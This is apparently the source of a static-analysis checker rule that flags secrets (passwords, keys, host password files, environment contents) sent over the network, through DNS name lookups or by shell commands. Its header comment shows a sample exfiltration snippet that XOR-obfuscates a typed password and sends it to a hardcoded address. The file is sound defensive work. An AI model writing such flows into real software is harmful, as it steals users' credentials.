/* exfil/secret-to-network: a secret leaves for a peer nobody configured.
 *
 *     char *word = getpass("Password: ");
 *     for (size_t i = 0; word[i]; i++)
 *         word[i] ^= 0x5a;
 *     peer.sin_addr.s_addr = inet_addr("203.0.113.7");
 *     sendto(fd, word, strlen(word), 0, (struct sockaddr *)&peer, sizeof peer);
 *
 * Not caught: a secret that travels one bit at a time through conditions, or through a file.
 */
#include <string.h>

#include "checkers/shared/channel/command.h"
#include "checkers/shared/channel/errand.h"
#include "checkers/shared/channel/far_end.h"
#include "checkers/shared/channel/leak.h"
#include "checkers/shared/channel/typed.h"
#include "engine/base/arena.h"

/* Who gets it: evidence, and the base that the kind of peer makes. */
static int weigh_peer(struct vt_check *check, struct vt_finding *finding,
                      const struct vt_leak *leak) {
    struct vt_peer peer = vt_leak_peer(check, leak);
    switch (peer.kind) {
    case VT_PEER_CONSTANT:
        vt_finding_evidence(check, finding, "constant-peer", 30,
                            "The peer is written in the program%s%s.", *peer.name ? ": " : "",
                            peer.name);
        if (peer.concealed)
            vt_finding_evidence(check, finding, "concealed-peer", 20,
                                "The peer is decoded before it is used.");
        return 45;
    case VT_PEER_CONFIGURED:
        return 5;
    case VT_PEER_LOCAL:
        return 0;
    case VT_PEER_CALLER:
        return 25;
    default:
        return 45;
    }
}

/* True if it was read from where the host keeps its users' passwords. */
static bool is_host_file(struct vt_check *check, const struct vt_leak *leak) {
    struct vt_leak copy = *leak;
    return vt_source_is(vt_check_program(check), leak->source, VT_FACT_ORIGIN, "io.read") &&
           vt_leak_is_named(check, &copy, "secret.credential.stored");
}

/* A key is bytes, and no name holds any: something has to make letters of them. */
static bool is_spelled(struct vt_check *check, const struct vt_leak *leak) {
    enum { SPELLS = VT_TAG_ENCODE | VT_TAG_INDEX | VT_TAG_NUMBER | VT_TAG_ARITHMETIC | VT_TAG_XOR };
    struct vt_program *program = vt_check_program(check);
    struct vt_leak copy = *leak;
    return leak->source->tags & SPELLS ||
           !(vt_source_is(program, leak->source, VT_FACT_ORIGIN, "secret.key") ||
             vt_leak_is_named(check, &copy, "secret.key.binary"));
}

/* True if LEAK goes into the name of a question: what sends packets is told how long they are. */
static bool is_in_name(struct vt_check *check, const struct vt_leak *leak) {
    struct vt_program *program = vt_check_program(check);
    struct vt_event_ref ref = leak->asked.ref;
    return leak->asked.role == VT_ROLE_PEER ||
           (vt_leak_way(program, ref) == VT_WAY_LOOKUP &&
            !vt_trace_role(program, ref, VT_ROLE_LENGTH, NULL, VT_ABOUT_DATA));
}

static void report(struct vt_check *check, const struct vt_leak *leak, const char *secret) {
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    bool in_name = leak->asked.role == VT_ROLE_PEER;
    int base = weigh_peer(check, finding, leak);
    if (in_name) {
        base = 60;
        if (!vt_trace_is_cut(leak->trace)) /* else the name may be another part of something */
            vt_finding_evidence(check, finding, "in-name", 20,
                                "It is part of the name that a resolver is asked for.");
        struct vt_leak copy = *leak;
        if (vt_leak_is_named(check, &copy, "secret.credential.login"))
            vt_finding_evidence(check, finding, "beside-hosts", -45,
                                "The file also has the names of hosts, and this may be one.");
    }
    if (is_in_name(check, leak) && !is_spelled(check, leak))
        vt_finding_evidence(check, finding, "unspelled", -80,
                            "A key is bytes, and nothing on the way makes a name of them: what "
                            "is near it may be meant.");
    if (vt_leak_way(vt_check_program(check), leak->asked.ref) == VT_WAY_RAW) {
        base = base < 35 ? 35 : base; /* whomever it goes to: that is no way to log in */
        vt_finding_evidence(check, finding, "own-packet", 20,
                            "It stands in packets that the program builds itself.");
    }
    if (is_host_file(check, leak) && vt_leak_peer(check, leak).kind != VT_PEER_LOCAL)
        vt_finding_evidence(check, finding, "host-passwords", 40,
                            "The file has the passwords of this host, which no service sends.");
    vt_leak_weigh_disguise(check, finding, leak->source->tags);
    vt_finding_message(check, finding, "%s from `%s` reaches the network.", secret,
                       vt_source_function(vt_check_program(check), leak->source));
    vt_finding_path(check, finding, leak->trace, leak->source, "The secret is read here",
                    in_name ? "It is sent as part of a name to resolve" : "It is sent here");
    vt_finding_send(check, finding, base);
}

/* Places that a finding was told of. */
struct told {
    struct vt_event_ref *items;
    size_t count, capacity;
};

/* The environment as a whole has whatever somebody put there; to a peer of a setting's choice it
 * goes because somebody wants it so. */
static bool is_whole_environment(struct vt_check *check, const struct vt_leak *leak) {
    struct vt_program *program = vt_check_program(check);
    return vt_source_is(program, leak->source, VT_FACT_ORIGIN, "environment") &&
           !vt_trace_value(program, leak->source->event, VT_ROLE_TARGET, VT_ABOUT_DATA) &&
           vt_leak_peer(check, leak).kind == VT_PEER_CONSTANT;
}

/* One finding a place; the nearest secret tells the story. */
static bool visit(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct told *told = context;
    const char *secret = vt_leak_secret(check, leak);
    if (!secret && is_whole_environment(check, leak))
        secret = "Whatever is in the environment";
    if (!secret)
        return false;
    /* What the rest of the program sends where it should, the same function may send elsewhere. */
    if (vt_source_is(vt_check_program(check), leak->source, VT_FACT_ORIGIN, "secret") &&
        vt_leak_peer(check, leak).kind == VT_PEER_CONFIGURED)
        vt_leak_has_constant_peer(check, leak);
    report(check, leak, secret);
    told->items = vt_grow(vt_check_arena(check), told->items, told->count, &told->capacity,
                          sizeof *told->items);
    told->items[told->count++] = leak->asked.ref;
    return true;
}

static bool was_told(const struct told *told, struct vt_event_ref ref) {
    for (size_t i = 0; i < told->count; i++)
        if (vt_event_same(told->items[i], ref))
            return true;
    return false;
}

/* A word that was typed in goes back to where it was typed, and to servers that know it. So only a
 * peer of the program's own choice is told. */
static void look_for_typed(struct vt_check *check, const struct vt_typed *typed,
                           struct vt_event_ref ref) {
    struct vt_program *program = vt_check_program(check);
    struct vt_peer peer = vt_ask_peer(program, ref);
    if (peer.kind != VT_PEER_CONSTANT)
        return;
    const struct vt_trace *trace = vt_trace_value(program, ref, VT_ROLE_PAYLOAD, VT_NOT_LEAKED);
    const struct vt_site *site = vt_typed_in(check, typed, trace);
    const struct vt_parameter *handed = site ? NULL : vt_typed_through(check, typed, trace);
    if (!site && !handed)
        return;
    const char *reader =
        vt_program_function_name(program, site ? site->function : handed->function);
    struct vt_finding *finding = vt_finding_new(check, ref);
    vt_leak_weigh_peer(check, finding, &peer);
    vt_leak_weigh_disguise(check, finding, vt_trace_tags(trace));
    vt_finding_message(check, finding,
                       "A password that `%s` has checked reaches the network as it was typed.",
                       reader);
    vt_finding_path(check, finding, NULL, NULL, NULL, "It is sent here");
    vt_finding_send(check, finding, 50);
}

/* ---- By commands ------------------------------------------------------------------------- */

/* A file that a command sends, or has put secrets into. */
struct moved {
    struct vt_errand errand;
    const char *file;
};

struct moves {
    struct moved *sent, *filled;
    size_t nsent, nfilled, sent_capacity, filled_capacity;
};

/* True if who runs the program may say to whom ERRAND goes: a home folder says nothing of it. */
static bool is_told_peer(struct vt_program *program, const struct vt_errand *errand) {
    size_t count = 0;
    const struct vt_source *sources = vt_trace_sources(errand->trace, &count);
    for (size_t i = 0; i < count && errand->is_open; i++)
        if (sources[i].kind != VT_SOURCE_CONSTANT && !vt_leak_is_home(program, &sources[i]))
            return true;
    return false;
}

static void tell_moved(struct vt_check *check, const struct vt_errand *errand, const char *file) {
    struct vt_finding *finding = vt_finding_new(check, errand->ref);
    if (is_told_peer(vt_check_program(check), errand))
        vt_finding_evidence(check, finding, "configured-peer", -40,
                            "What comes from outside the program is part of the command.");
    else
        vt_finding_evidence(check, finding, "constant-peer", 30,
                            "The peer is written in the program: %s", errand->text);
    vt_finding_message(check, finding, "A command sends a file of secrets: %s", file);
    vt_finding_path(check, finding, errand->trace, errand->source,
                    "The command stands in the program", "It is run here");
    vt_finding_send(check, finding, 45);
}

static const char *find_secret(struct vt_check *check, const char **files, size_t count) {
    for (size_t i = 0; i < count; i++)
        if (vt_leak_pattern(vt_check_program(check), files[i], "secret"))
            return files[i];
    return NULL;
}

static bool visit_command(struct vt_check *check, const struct vt_errand *errand, void *context) {
    struct moves *moves = context;
    struct vt_arena *arena = vt_check_arena(check);
    size_t nsent, nread;
    const char **sent = vt_command_sent(errand->text, arena, &nsent);
    const char **read = vt_command_prints(errand->text, arena, &nread);
    const char *found = find_secret(check, sent, nsent), *secret = find_secret(check, read, nread);
    if (!found && vt_command_sends(errand->text) && strchr(errand->text, '|'))
        found = secret;
    if (found)
        tell_moved(check, errand, found);
    for (size_t i = 0; i < nsent && !found; i++) {
        moves->sent =
            vt_grow(arena, moves->sent, moves->nsent, &moves->sent_capacity, sizeof *moves->sent);
        moves->sent[moves->nsent++] = (struct moved){*errand, sent[i]};
    }
    if (secret && !found) {
        moves->filled = vt_grow(arena, moves->filled, moves->nfilled, &moves->filled_capacity,
                                sizeof *moves->filled);
        moves->filled[moves->nfilled++] = (struct moved){*errand, secret};
    }
    return found != NULL;
}

/* Secrets may be put into an archive by one command and sent by another. */
static void look_at_commands(struct vt_check *check) {
    struct moves moves = {0};
    vt_errands(check, visit_command, &moves);
    for (size_t s = 0; s < moves.nsent; s++)
        for (size_t f = 0; f < moves.nfilled; f++)
            if (strlen(moves.sent[s].file) > 2 &&
                strstr(moves.filled[f].errand.text, moves.sent[s].file))
                tell_moved(check, &moves.sent[s].errand, moves.filled[f].file);
}

/* A file that becomes the standard input of a program that sends. */
static void look_at_fed(struct vt_check *check, struct vt_event_ref ref) {
    struct vt_program *program = vt_check_program(check);
    size_t count = 0;
    const struct vt_trace *trace =
        vt_trace_role(program, ref, VT_ROLE_HANDLE, "path", VT_ABOUT_DATA);
    const struct vt_source *names = trace ? vt_trace_sources(trace, &count) : NULL;
    for (size_t i = 0; i < count; i++) {
        if (!vt_leak_pattern(program, vt_source_text(&names[i]), "secret") ||
            !vt_far_end_is_fed(program, ref))
            continue;
        struct vt_finding *finding = vt_finding_new(check, ref);
        vt_finding_message(check, finding,
                           "A program that sends what it is given gets a file of "
                           "secrets: %s",
                           vt_source_text(&names[i]));
        vt_finding_path(check, finding, trace, &names[i], "The name of the file is this",
                        "It becomes standard input here");
        vt_finding_send(check, finding, 65);
        return;
    }
}

static void run(struct vt_check *check) {
    look_at_commands(check);
    vt_check_each(check, VT_FACT_EFFECT, "io.redirect", look_at_fed);
    struct vt_program *program = vt_check_program(check);
    struct told told = {NULL, 0, 0};
    vt_leaks_to_network(check, visit, &told);
    vt_leaks_by(check, "net.resolve", VT_ROLE_PEER, visit, &told);
    struct vt_typed typed = vt_typed_of(check);
    size_t count = 0;
    struct vt_event_ref *sends =
        vt_program_events(program, VT_FACT_EFFECT, "net.send", vt_check_arena(check), &count);
    for (size_t i = 0; typed.count + typed.nparameters && i < count; i++)
        if (!was_told(&told, sends[i]))
            look_for_typed(check, &typed, sends[i]);
}

const struct vt_rule vt_exfil_secret_to_network = {
    .id = "exfil/secret-to-network",
    .name = "SecretToNetwork",
    .summary = "A password, key or other secret is sent over the network",
    .description =
        "Something that only this host should know (a password that was typed, a stored hash, a "
        "private key, a file of secrets) reaches a network send or the name a resolver is asked "
        "for. Encoding or encrypting it on the way does not make it stay. A peer that is written "
        "in "
        "the program rather than configured speaks for a hidden channel.",
    .help = "Say in the declaration which service gets this secret and why, or remove the flow. If "
            "the peer is configured, let it come from the configuration on every path.",
    .cwe = "CWE-201,CWE-506",
    .precision = "high",
    .severity = 9.1,
    .run = run,
};
